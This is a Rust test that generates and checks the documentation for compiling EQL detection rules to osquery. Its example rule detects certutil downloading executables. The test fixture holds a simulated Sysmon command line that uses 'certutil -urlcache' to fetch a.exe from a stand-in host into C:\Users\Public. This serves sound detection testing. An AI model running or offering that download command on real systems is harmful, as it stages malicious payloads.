//! `docs/osquery.md` is what the data says, and its example does what it shows.
//!
//! `EQLC_BLESS=1` writes the file.

use std::fmt::Write as _;
use std::path::Path;

use eqlc_backend::{Artifact, Settings};
use eqlc_backend_osquery::describe;
use eqlc_driver::{Registry, compile};
use eqlc_ir::{Rule, normalise};
use eqlc_schema::Schema;
use eqlc_tests::{eql, osquery};
use eqlc_verify::sqlite::SqlValue;
use serde_json::{Value, json};

const INTRODUCTION: &str = "\
# Rules on osquery

<!-- Written from the data of the target by a test: EQLC_BLESS=1 cargo test -p eqlc-tests --test osquery_docs -->

`eqlc compile -t osquery` writes one `SELECT` for a rule, `-f pack` a query pack. A rule asks for events of a category;
here is which table of osquery has them on which system, which fields follow from its rows and how:

* **exact**: the row has the value, perhaps inside of another one;
* **the same for every row**: one host and one agent answer a query, so a join by it says nothing;
* **approximate**: the row has something like it; every use is a recorded loss with a direction;
* **live join**: it is asked of the host while the query runs (`processes`, `file`, `hash`, `authenticode`, `users`), which
  may have changed since the event; every use is a recorded loss;
* **for join keys only**: it tells things apart, but not by the value that the rule means;
* **constant**: every event of the table has this value, so that a test of it is decided when the rule is compiled.

A field that stands nowhere below has no counterpart: a rule that needs it is refused with its name (`E4101`), an exclusion
by it is left out (`L1102`, wider), and one alternative of several is left out with `--allow narrower` (`L1103`).
Events that match a rule and are not in its table are a loss, too (`L1104`).

Of several sources for the same events the first that has a counterpart for all that a rule asks answers it. A rule that
asks for several kinds of events, be it of one category (`registry where …` is what is written, made and removed) or of more
(`any where event.category in (…)`), is asked of every source that delivers what the first does not. Sources of one table
are one look at it; several tables are joined by `UNION ALL`, and then the query asks for the rows of its interval, for
osquery remembers for a query, not for a table, which rows it has seen. `log_source` says where a row is from. A row is never
reported twice: a source that may share rows with another is left out, with a loss.

A query runs on one system. Of a rule for several it is the first that has the events, with a loss that names the others;
`-O platform=linux` (or `windows`, `darwin`) writes the query for another one.

EQL's functions over fields are written with those of SQLite (`substring` as `substr`, `indexOf` as `instr`, `concat` as
`||`): null where EQL says null, positions from either end of a text, and of a field with several values each of them.
What is bent is a recorded loss: letters outside of ASCII keep their case between two fields, `number` reads whole numbers
of up to 18 digits, and a result of more than 64 bits has no value. `between` with delimiters that are no constants or
with its last argument true, `number` in another base than 10, and computing with fractions or dates are refused (`E4003`).

## Running it

An agent keeps these events only if it is told to. `eqlc targets osquery --requires` prints the flags with `--profile
sysmon` (the channels of Sysmon and of the audit log through `windows_events`) or `--profile native` (the event tables of
osquery itself):

";

const SEQUENCES: &str = "\
Sequences are one query: every table is read back for the time span and the interval between two runs, and a run reports
the matches that became complete since the run before, so that none is reported twice. A match that ends with a missing
event is reported once its time span is over. osquery keeps events for an hour unless `--events_expiry` says more; a
sequence with a longer span runs with a recorded loss. A pack runs only where `discovery` finds the flags that its tables
need, watches the folders that its rule names (`file_paths`; those of the system where it names none), and is refused
above 1 MiB, the largest configuration that every release reads. Queries beyond what SQLite takes are refused, too
(1,000,000 bytes, 20 parentheses inside each other, expressions of 1,000 levels, 127 arguments, patterns of 50,000 bytes,
regular expressions of 256).

Paths in `file_paths` end in `%%`, everything below, or name one file. Patterns of rules that begin with any drive
(`?:\\\\…`) are watched on `C:`, which is a recorded loss (`L1104`): paths on other drives are to be added to the pack by hand.

";

const EXAMPLE: &str = "\
sequence by host.id, process.entity_id with maxspan=1m
  [process where host.os.type == \"windows\" and event.type == \"start\" and
     process.name : \"certutil.exe\" and process.args : (\"-urlcache\", \"/urlcache\")]
  [file where host.os.type == \"windows\" and event.type == \"creation\" and file.extension : (\"exe\", \"dll\")]
until [process where host.os.type == \"windows\" and event.type == \"end\"]
";

fn rule() -> Rule {
    let mut rule = eql::rule(EXAMPLE, Schema::ecs()).unwrap_or_else(|found| panic!("{found:?}"));
    std::sync::Arc::make_mut(&mut rule.meta).name = "certutil".to_owned();
    normalise(rule)
}

fn compiled(format: &str) -> Artifact {
    let registry = Registry::new().expect("the backends");
    let settings = Settings { format: Some(format.to_owned()), ..Settings::default() };
    let backend = registry.find("osquery").expect("the target");
    compile(&rule(), backend, &settings).unwrap_or_else(|found| panic!("{found:?}")).artifact
}

fn flags() -> String {
    let registry = Registry::new().expect("the backends");
    let backend = registry.find("osquery").expect("the target");
    let mut out = "| system | profile | flag | why |\n|---|---|---|---|\n".to_owned();
    for profile in ["sysmon", "native"] {
        let mut settings = Settings::default();
        settings.options.insert("profile".to_owned(), profile.to_owned());
        for need in backend.requirements(&settings) {
            let profile = match need.platform.as_str() {
                "windows" => format!("`{profile}`"),
                // The tables of other systems are the same in every profile.
                _ if profile == "native" => continue,
                _ => "every".to_owned(),
            };
            let (system, flag, why) = (&need.platform, &need.flag, &need.why);
            writeln!(out, "| {system} | {profile} | `{flag}` | {why} |").expect("text");
        }
    }
    out + "\n"
}

fn example() -> String {
    let (query, pack) = (compiled("query"), compiled("pack"));
    let mut out = "## From rule to pack\n\n".to_owned();
    writeln!(out, "`certutil.eql`:\n\n```eql\n{EXAMPLE}```\n").expect("text");
    writeln!(out, "`eqlc compile -t osquery certutil.eql` writes\n\n```sql\n{}```\n", query.text)
        .expect("text");
    out.push_str("and tells these losses:\n\n");
    for loss in &query.losses {
        writeln!(out, "* `{}` {}: {}", loss.code, loss.direction, loss.why).expect("text");
    }
    writeln!(
        out,
        "\n`eqlc compile -t osquery -f pack -o out certutil.eql` puts the query into a pack, `out/osquery/certutil.json`:\n"
    )
    .expect("text");
    let mut shown: Value = serde_json::from_str(&pack.text).expect("JSON");
    shown["queries"]["certutil"]["query"] = json!("WITH s1 AS (SELECT …");
    writeln!(out, "```json\n{shown:#}\n```\n").expect("text");
    out.push_str(
        "It goes under `packs` of an agent's configuration, or into a file that `packs` names. On the rows of a\n\
         download it gives\n\n",
    );
    writeln!(out, "```json\n{:#}\n```", matched()).expect("text");
    out
}

/// What the query of the pack finds on rows as Sysmon leaves them.
fn matched() -> Value {
    let pack: Value = serde_json::from_str(&compiled("pack").text).expect("JSON");
    let query = pack["queries"]["certutil"]["query"].as_str().expect("a query");
    let mut database = osquery::database(&["windows_events"]).expect("the tables");
    let guid = "{5770385f-0000-0000-0000-000000000001}";
    let image = "C:\\Windows\\System32\\certutil.exe";
    let line = "certutil.exe -urlcache -f http://192.0.2.1/a.exe C:\\Users\\Public\\a.exe";
    let events = [
        (1, json!({ "Image": image, "CommandLine": line, "ProcessGuid": guid })),
        (11, json!({ "Image": image, "TargetFilename": "C:\\Users\\Public\\a.exe", "ProcessGuid": guid })),
    ];
    let start = 1_767_225_600;
    for (at, (number, mut data)) in (1..).zip(events) {
        data["UtcTime"] = json!(format!("2026-01-01 00:00:{at:02}.000"));
        let text = |text: &str| SqlValue::Text(text.to_owned());
        let row = [
            ("eid", SqlValue::Text(format!("{at:010}"))),
            ("time", SqlValue::Int(start + at)),
            ("source", text("Microsoft-Windows-Sysmon/Operational")),
            ("eventid", SqlValue::Int(number)),
            ("data", SqlValue::Text(json!({ "EventData": data }).to_string())),
        ];
        let row = row.map(|(name, value)| (name.to_owned(), value));
        database.insert("windows_events", &row).expect("a row");
    }
    database.set_time(start + 60).expect("the clock");
    let rows = database.query(query).expect("a query that runs");
    assert_eq!(rows.len(), 1, "the example finds the download");
    let shown = rows.iter().map(|row| {
        let columns = row.columns().map(|(name, value)| {
            let value = match value {
                SqlValue::Int(number) => json!(number.to_string()),
                SqlValue::Text(text) => json!(text),
                other => json!(format!("{other:?}")),
            };
            (name.to_owned(), value)
        });
        Value::Object(columns.collect())
    });
    shown.collect()
}

fn document() -> String {
    format!("{INTRODUCTION}{}{SEQUENCES}{}{}", flags(), describe::markdown(), example())
}

#[test]
fn the_document_is_what_the_data_says() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/osquery.md");
    let document = document();
    if std::env::var_os("EQLC_BLESS").is_some() {
        std::fs::write(&path, &document).expect("the document is written");
    }
    let written = std::fs::read_to_string(&path).unwrap_or_default();
    let differs = written.lines().zip(document.lines()).find(|(old, new)| old != new);
    assert!(written == document, "EQLC_BLESS=1 writes it again: {differs:?}");
}
